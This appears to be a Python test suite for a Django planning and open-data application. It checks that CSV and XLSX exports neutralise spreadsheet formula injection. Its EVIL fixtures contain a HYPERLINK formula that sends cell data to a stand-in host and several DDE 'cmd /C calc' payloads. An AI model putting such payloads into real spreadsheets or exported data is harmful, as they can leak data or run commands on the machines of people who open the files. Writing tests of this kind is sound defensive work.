"""Every CSV and XLSX export neutralises spreadsheet formula injection (OWASP "CSV injection"):
a text starting with =, +, -, @ reaches the spreadsheet as inert text. CSV: a leading
apostrophe. XLSX: a text cell (never a formula) with Excel's quote prefix, the value unchanged.
Numbers, negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal as D

import pytest
from openpyxl import load_workbook

from dashboards.tests.helpers import ROLES, user_with_role
from opendata import writers
from opendata.writers import TEXT, Column
from reporting.tests.conftest import open_cutoff, people  # noqa: F401 - fixtures
from tests.downloads import content

EVIL = {
    "=": '=HYPERLINK("http://example.com/robar?d="&A1,"Ver")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_csv_neutralised(content: bytes, texts):
    cells = csv_cells(content)
    for text in texts:
        assert f"'{text}" in cells, text
        assert text not in cells, text


def assert_xlsx_neutralised(content: bytes, texts):
    cells = xlsx_cells(content)
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found, text
        for cell in found:
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, text)
    assert not [c for c in cells if isinstance(c.value, str) and c.value.startswith("'=")]


# --- The pure helpers -------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_safe_prefixes_every_formula_start(start):
    assert writers.csv_safe(f"{start}1") == f"'{start}1"


@pytest.mark.parametrize("text", ["Bogotá", "4.155.036", "", "a=b", " =1"])
def test_csv_safe_leaves_other_texts_alone(text):
    assert writers.csv_safe(text) == text


def test_the_generic_exports_protect_text_columns_and_leave_numbers_alone():
    columns = [Column("nombre", "Nombre"), Column("valor", "Valor", writers.MAGNITUDE)]
    rows = [{"nombre": text, "valor": D("-5")} for text in EVIL.values()]
    content = writers.csv_bytes(columns, rows)
    assert_csv_neutralised(content, EVIL.values())
    assert csv_cells(content).count("-5") == len(EVIL)  # a negative number is not prefixed
    book = writers.xlsx_bytes(columns, rows)
    assert_xlsx_neutralised(book, EVIL.values())
    numbers = [c for c in xlsx_cells(book) if c.column == 2 and c.row > 1]
    assert {(c.value, c.data_type) for c in numbers} == {(-5, "n")}
    assert TEXT == columns[0].kind


# --- Each export of the product ---------------------------------------------------------------


@pytest.fixture
def evil_pes(seeded):
    """Names of the PES with formulas in them, published again so open data carries them."""
    from plan.models import Cutoff
    from publication.publishing import publish

    plan = seeded["pes-2024-2027"]
    objective = plan.objectives.get(number=4)
    objective.short_title = EVIL["="]
    objective.save()
    indicator = plan.indicators.get(code="4075")
    indicator.name = EVIL["+"]
    indicator.save()
    publish(Cutoff.objects.get(plan=plan), reason=EVIL["-"])
    return plan


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_open_data_downloads(client, evil_pes, fmt):
    base = "/datos-abiertos/pes-2024-2027/2026-03-31/"
    objectives = client.get(f"{base}objetivos.{fmt}")
    indicators = client.get(f"{base}indicadores.{fmt}")
    assert objectives.status_code == indicators.status_code == 200
    check = assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised
    check(content(objectives), [EVIL["="]])
    check(content(indicators), [EVIL["+"]])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_directors_indicator_table_export(client, evil_pes, fmt):
    client.force_login(user_with_role("directora", ROLES["director"]))
    response = client.get(f"/tablero/pes-2024-2027/indicadores/?exportar={fmt}")
    assert response.status_code == 200
    check = assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised
    check(content(response), [EVIL["+"]])


def test_the_follow_up_workbook_keeps_its_own_formulas_and_round_trips(
    people,  # noqa: F811
    open_cutoff,  # noqa: F811
):
    from indicators.models import Measurement
    from reporting.importing import export_followup, run_followup_import
    from reporting.workbook_export import INDEX

    measurement = Measurement.objects.filter(cutoff=open_cutoff).first()
    measurement.analysis = EVIL["="]  # read back as text: the quote prefix says so
    measurement.save()
    indicator = measurement.indicator
    indicator.name = EVIL["@"]
    indicator.save()
    content = export_followup(open_cutoff, people.planner)
    assert_xlsx_neutralised(content, [EVIL["@"], EVIL["="]])
    progress = [c for c in xlsx_cells(content) if c.column == INDEX["progress"] and c.row > 1]
    assert progress and all(c.data_type == "f" for c in progress)  # our formula, kept
    plan = run_followup_import(content, open_cutoff, people.planner, dry_run=True)
    assert plan.errors == [] and plan.count("updated") == 0


def test_the_plan_structure_workbook(people):  # noqa: F811
    from reporting.structure_workbook import export_structure

    plan = people.cutoff.plan
    plan.mission = EVIL["-"]
    plan.save()
    objective = plan.objectives.first()
    objective.statement = EVIL["="]
    objective.save()
    assert_xlsx_neutralised(export_structure(plan), [EVIL["-"], EVIL["="]])


@pytest.fixture
def evil_risks(db):
    from risks.models import Risk
    from risks.tests.factories import make_register, publish_corruption

    organisation, _units, _created = make_register(3, year=2025)
    risks = list(Risk.objects.filter(organisation=organisation).order_by("pk"))
    for risk, text in zip(risks, [EVIL["="], EVIL["@"], EVIL["+"]], strict=True):
        risk.name = text
        risk.save()
    publish_corruption(risks)
    return organisation, risks


def test_the_risk_register_export(client, evil_risks):
    from risks.tests.factories import planning_user

    client.force_login(planning_user())
    response = client.get("/riesgos/registro/exportar/?vigencia=2025")
    assert response.status_code == 200
    assert_xlsx_neutralised(content(response), [EVIL["="], EVIL["@"], EVIL["+"]])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_public_corruption_map_downloads(client, evil_risks, fmt):
    organisation, risks = evil_risks
    corruption = [r.name for r in risks if r.kind == "corruption"]
    assert corruption
    response = client.get(
        f"/riesgos/corrupcion/datos.{fmt}?vigencia=2025&entidad={organisation.code}"
    )
    assert response.status_code == 200
    check = assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised
    check(content(response), corruption)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_accountability_open_data(client, acc_evil, fmt):
    response = client.get(f"/rendicion-de-cuentas/datos-abiertos/preguntas.{fmt}")
    assert response.status_code == 200
    check = assert_csv_neutralised if fmt == "csv" else assert_xlsx_neutralised
    check(content(response), [EVIL["="], EVIL["-"]])


@pytest.fixture
def acc_evil(db):
    from accountability.models import Question
    from accountability.tests.factories import make_strategy

    make_strategy(2)
    questions = list(Question.objects.filter(is_public=True).order_by("pk")[:2])
    questions[0].text = EVIL["="]
    questions[1].text = EVIL["-"]
    for question in questions:
        question.save()
    return questions
